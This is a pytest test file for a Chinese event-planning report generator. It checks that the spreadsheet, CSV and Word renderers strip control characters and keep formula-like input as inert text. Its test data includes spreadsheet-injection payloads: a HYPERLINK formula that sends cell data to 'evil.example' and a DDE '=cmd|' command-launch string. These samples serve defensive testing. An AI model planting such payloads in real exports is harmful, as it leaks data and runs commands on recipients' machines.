"""The renderers against whatever a liaison may have typed: control characters, formulas, line
breaks, very long text, emoji and direction marks. Every file is produced, opens again, carries
no formula, and keeps the text minus the controls."""

import csv
import io

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from openday.core.text import control_chars, looks_like_formula, strip_controls
from openday.reports.banner import render_banner_docx, render_banner_txt
from openday.reports.renderers import render_csv, render_docx, render_xlsx
from openday.reports.renderers.briefing import Briefing, Section, render_briefing_docx
from openday.reports.renderers.document import MERGED_ROWS
from openday.reports.renderers.layout import fit_widths
from openday.reports.tables import Table, merge_runs
from tests.reports.test_libreoffice import TARGETS, _convert

CONTROLS = "社保\x0b政策\x00宣讲\x1f\ufffe"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "  =1+1",
    "\t=1+1",
    "\r=cmd|'/C calc'!A0",
]
LINES = "第一行\r\n第二行\r第三行"
EMOJI = "🎉政务公开👍"
RTL = "\u202e反转\u200f标记"
LONG = "长" * 5000
ERROR_CODE = "#N/A"
HOSTILE = [CONTROLS, *FORMULAS, LINES, EMOJI, RTL, LONG, ERROR_CODE]
# What each value reads back as: no controls, CR and CRLF as LF.
CLEAN = [strip_controls(value) for value in HOSTILE]


def _table(**fields) -> Table:
    rows = [[index, "5月", value, 100 + index] for index, value in enumerate(HOSTILE, start=1)]
    return Table(
        **{
            "title": "天心区\r\n2023年\x0b计划表",
            "header": ["序号", "活动\x00时间", "活动主题", "人数"],
            "rows": rows,
            "mark": "附件1\x1f",
            "subtitle_lines": ["填报单位（公章）：=区\x0b人社局"],
            "merge_column": 1,
            **fields,
        }
    )


def _no_controls(texts) -> None:
    for text in texts:
        assert control_chars(str(text), multiline=True) == [], repr(text)


# --- .xlsx -------------------------------------------------------------------------------------


def _workbook(table: Table):
    return load_workbook(io.BytesIO(render_xlsx(table)))


def test_xlsx_with_every_hostile_value_opens_and_keeps_the_text_minus_controls():
    sheet = _workbook(_table()).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [row[2].value for row in sheet.iter_rows(min_row=5)] == CLEAN
    assert sheet["A1"].value == "附件1"
    assert sheet["A2"].value == "天心区 2023年计划表"
    assert sheet["A3"].value == "填报单位（公章）：=区人社局"
    assert [cell.value for cell in sheet[4]] == ["序号", "活动时间", "活动主题", "人数"]
    assert sheet.title == "天心区 2023年计划表"
    _no_controls(cell.value for cell in cells)


def test_xlsx_never_writes_a_formula_and_keeps_computed_numbers_numbers():
    sheet = _workbook(_table()).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [row[2] for row in sheet.iter_rows(min_row=5)]
    assert {cell.data_type for cell in texts} == {"s"}
    assert sheet.cell(5 + HOSTILE.index(ERROR_CODE), 3).value == ERROR_CODE
    # Numbers the table computed stay numbers, in both number columns.
    assert [(row[0].value, row[3].value) for row in sheet.iter_rows(min_row=5, max_row=6)] == [
        (1, 101),
        (2, 102),
    ]
    assert {row[3].data_type for row in sheet.iter_rows(min_row=5)} == {"n"}


def test_xlsx_text_that_reads_as_a_formula_keeps_excels_quote_prefix():
    sheet = _workbook(_table()).active

    prefixed = {row[2].value for row in sheet.iter_rows(min_row=5) if row[2].quotePrefix}
    assert prefixed == {strip_controls(value) for value in FORMULAS}
    assert sheet["A3"].quotePrefix is False  # "填报…" starts with text, not "="


def test_xlsx_title_and_cells_that_are_formulas_stay_text():
    rows = [[1, "5月", "=1+2", 3], [2, "5月", '=HYPERLINK("https://evil.example")', 4]]
    sheet = _workbook(_table(title="=1+2", mark="", subtitle_lines=[], rows=rows)).active

    assert [(cell.value, cell.data_type) for cell in (sheet["A1"], sheet["C3"], sheet["C4"])] == [
        ("=1+2", "s"),
        ("=1+2", "s"),
        ('=HYPERLINK("https://evil.example")', "s"),
    ]
    assert [(sheet["D3"].value, sheet["D3"].data_type)] == [(3, "n")]


@pytest.mark.libreoffice
def test_libreoffice_shows_formulas_as_the_text_typed(soffice, tmp_path):
    (tmp_path / "plan.xlsx").write_bytes(render_xlsx(_table()))

    _convert(soffice, tmp_path / "plan.xlsx", TARGETS["xlsx"][0], tmp_path)

    with (tmp_path / "out" / "plan.csv").open(encoding="utf-8", newline="") as converted:
        rows = list(csv.reader(converted))
    # Computed, "+1+1" would read 2 and "=HYPERLINK(…)" the link's text.
    assert [row[2] for row in rows[4:]] == CLEAN


def test_xlsx_cuts_a_cell_longer_than_excel_holds_and_marks_the_cut():
    huge = "政" * 40000
    emoji = "🎉" * 20000  # two UTF-16 units each, as Excel counts them
    sheet = _workbook(_table(rows=[[1, "5月", huge, 1], [2, "5月", emoji, 2]])).active

    first, second = sheet["C5"].value, sheet["C6"].value
    assert first == "政" * 32766 + "…"
    assert second == "🎉" * 16383 + "…"
    assert [sheet.row_dimensions[row].height for row in (5, 6)] == [409, 409]


@pytest.mark.parametrize(
    ("title", "sheet_title"),
    [
        ("'引号开头的标题'", "引号开头的标题"),
        ("History", "History1"),
        ("\x0b\r\n", "Sheet1"),
    ],
)
def test_xlsx_sheet_name_is_one_excel_accepts(title, sheet_title):
    assert _workbook(_table(title=title)).active.title == sheet_title


def test_a_phone_number_typed_as_a_paragraph_leaves_room_for_the_other_columns():
    table = Table(
        title="汇总表",
        header=["填报单位", "活动主题", "联系电话"],
        rows=[["区人社局", "社保政策宣讲", "0731-" * 200]],
        nowrap_columns=(2,),
    )

    widths = fit_widths(table, 132, 2.0, 1.5)

    assert min(widths) > 0
    assert widths[2] == pytest.approx(132 / 3)
    assert sum(widths) == pytest.approx(132)
    sheet = _workbook(table).active
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [round(w, 1) for w in widths]
    document = Document(io.BytesIO(render_docx(table)))
    assert all(column.width > 0 for column in document.tables[0].columns)


# --- .csv --------------------------------------------------------------------------------------


def test_csv_neutralises_formulas_and_strips_controls_but_keeps_numbers():
    content = render_csv(_table()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))

    assert rows[0] == ["序号", "活动时间", "活动主题", "人数"]
    body = rows[1:]
    assert [row[2] for row in body] == [
        "'" + value if looks_like_formula(value) else value for value in CLEAN
    ]
    assert [row[2] for row in body][1:8] == ["'" + strip_controls(f) for f in FORMULAS]
    assert [row[3] for row in body] == [str(100 + n) for n in range(1, len(HOSTILE) + 1)]
    assert not any(looks_like_formula(cell) for row in rows for cell in row)
    _no_controls(cell for row in rows for cell in row)


# --- .docx -------------------------------------------------------------------------------------


def _docx_texts(document) -> list[str]:
    texts = [paragraph.text for paragraph in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return texts


def test_docx_with_every_hostile_value_opens_and_keeps_the_text_minus_controls():
    document = Document(io.BytesIO(render_docx(_table())))

    assert [p.text for p in document.paragraphs[:3]] == [
        "附件1",
        "天心区 2023年计划表",
        "填报单位（公章）：=区人社局",
    ]
    assert document.core_properties.title == "天心区 2023年计划表"
    grid = document.tables[0]
    assert [cell.text for cell in grid.rows[0].cells] == ["序号", "活动时间", "活动主题", "人数"]
    # python-docx reads a line break as "\n" and a tab as "\t", as they were typed.
    assert [row.cells[2].text for row in grid.rows[1:]] == CLEAN
    _no_controls(_docx_texts(document))


def test_docx_with_1200_rows_in_one_month_is_written_and_reads_back():
    rows = [[seq, "5月", f"活动{seq}", seq] for seq in range(1, 1201)]
    header = ["序号", "活动时间", "活动主题", "人数"]
    table = Table(title="计划表", header=header, rows=rows, merge_column=1)

    document = Document(io.BytesIO(render_docx(table)))

    grid = document.tables[0]
    assert len(grid.rows) == 1201
    assert [row.cells[1].text for row in grid.rows[1:]] == ["5月"] * 1200
    assert [row.cells[2].text for row in grid.rows[1:]] == [f"活动{n}" for n in range(1, 1201)]
    # The month restarts its merged cell every MERGED_ROWS rows: on every page, never deep.
    marks = [tr.tc_lst[1].vMerge for tr in grid._tbl.tr_lst[1:]]
    assert marks == (["restart"] + ["continue"] * (MERGED_ROWS - 1)) * (1200 // MERGED_ROWS)


def test_merge_runs_cut_a_long_run_into_runs_of_at_most_the_longest():
    months = ["3月"] * 45 + ["4月"] * 2 + [""] * 3
    table = Table(title="t", header=["月份"], rows=[[m] for m in months], merge_column=0)

    assert merge_runs(table) == [(0, 44), (45, 46)]
    assert merge_runs(table, longest=20) == [(0, 19), (20, 39), (40, 44), (45, 46)]
    assert merge_runs(table, longest=22) == [(0, 21), (22, 43), (45, 46)]


def test_briefing_with_hostile_text_opens_and_keeps_it_minus_controls():
    table = _table(mark="", subtitle_lines=[])
    briefing = Briefing(
        title="天心区\r\n5月\x0b月末总结",
        subtitle="（统计截至\x002023年5月31日）",
        sections=[
            Section(heading="一、\x1f总体情况\n", paragraphs=[CONTROLS, FORMULAS[0], LINES]),
            Section(heading="二、媒体宣传报道", table=table),
        ],
    )

    document = Document(io.BytesIO(render_briefing_docx(briefing)))

    assert [p.text for p in document.paragraphs[:6]] == [
        "天心区 5月月末总结",
        "（统计截至2023年5月31日）",
        "一、总体情况",
        "社保政策宣讲",
        FORMULAS[0],
        "第一行\n第二行\n第三行",
    ]
    assert document.core_properties.title == "天心区 5月月末总结"
    assert [row.cells[2].text for row in document.tables[0].rows[1:]] == CLEAN
    _no_controls(_docx_texts(document))


def test_briefing_table_with_1200_rows_of_one_unit_is_written_and_reads_back():
    rows = [["区人社局", seq, f"活动{seq}"] for seq in range(1, 1201)]
    table = Table(title="逾期", header=["责任单位", "序号", "活动主题"], rows=rows, merge_column=0)
    briefing = Briefing(title="月末总结", sections=[Section(heading="三、逾期", table=table)])

    document = Document(io.BytesIO(render_briefing_docx(briefing)))

    assert [row.cells[0].text for row in document.tables[0].rows[1:]] == ["区人社局"] * 1200


def test_banner_with_hostile_unit_name_and_note_opens_and_keeps_the_text():
    title = "天心区2023年会标（区\x0b人社局\r\n）"
    lines = ["=区人社局\x00“政务公开主题日”活动", "🎉\u202e社保政策宣讲\n"]
    note = "会标尺寸\x1f：\r\n3米×0.5米"

    document = Document(io.BytesIO(render_banner_docx(title, lines, note)))
    text = render_banner_txt(title, lines, note).decode("utf-8-sig")

    expected = [
        "天心区2023年会标（区人社局 ）",
        "=区人社局“政务公开主题日”活动",
        "🎉\u202e社保政策宣讲",
        "会标尺寸：\n3米×0.5米",
    ]
    assert [p.text for p in document.paragraphs] == expected
    assert document.core_properties.title == expected[0]
    assert text == "\r\n".join([expected[0], "", *expected[1:3], "", "会标尺寸：", "3米×0.5米", ""])


# --- any text at all ---------------------------------------------------------------------------

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=40)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=ANY_TEXT, header=ANY_TEXT, value=ANY_TEXT, phone=ANY_TEXT)
def test_any_text_gives_files_that_open_with_no_formula_and_no_control(title, header, value, phone):
    table = Table(
        title=title,
        header=["序号", header, "联系电话"],
        rows=[[1, value, phone], [2, value, phone]],
        subtitle_lines=[value],
        merge_column=1,
        nowrap_columns=(2,),
    )

    sheet = _workbook(table).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    _no_controls(cell.value for cell in cells)
    document = Document(io.BytesIO(render_docx(table)))
    _no_controls(_docx_texts(document))
    assert all(column.width > 0 for column in document.tables[0].columns)
    rows = list(csv.reader(io.StringIO(render_csv(table).decode("utf-8-sig"))))
    assert not any(looks_like_formula(cell) for row in rows for cell in row)
    _no_controls(cell for row in rows for cell in row)


def test_a_title_past_255_characters_is_cut_only_in_the_files_properties():
    title = "天心区" + "很长的标题" * 80
    briefing = Briefing(
        title=title, sections=[Section(heading="一、总体情况", paragraphs=["无。"])]
    )

    documents = [
        Document(io.BytesIO(render_docx(_table(title=title, mark="")))),
        Document(io.BytesIO(render_briefing_docx(briefing))),
        Document(io.BytesIO(render_banner_docx(title, ["会标"]))),
    ]

    assert [d.core_properties.title for d in documents] == [title[:255]] * 3
    assert [d.paragraphs[0].text for d in documents] == [title] * 3
    assert _workbook(_table(title=title)).active["A2"].value == title
